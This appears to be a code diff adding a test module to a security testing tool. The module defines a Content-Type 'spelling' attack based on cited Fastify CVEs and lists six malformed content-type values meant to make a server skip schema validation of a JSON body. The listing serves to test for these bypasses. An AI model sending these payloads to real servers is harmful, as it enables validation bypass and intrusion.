@@ -1,0 +1,22 @@
+import type { AttackClass } from '../attack.js';
+import { member, jsonWith } from '../body/json-text.js';
+
+export const typeSpelling: AttackClass = {
+  name: 'type-spelling',
+  source: 'CVE-2025-32442, CVE-2026-25223 and CVE-2026-33806 (Fastify)',
+  why: 'A spelling of the type that the check does not know and the parser does: the schema is skipped.',
+  aim: 'body',
+  json: (target) =>
+    [
+      'application/json\ta',
+      'application/json ;x=1',
+      'application/json;',
+      'application/json, text/plain',
+      'application/jsonx',
+      'application/ json',
+    ].map((contentType) => ({
+      body: jsonWith(target, member(target.key, target.wants)),
+      contentType,
+      pointer: undefined,
+    })),
+};
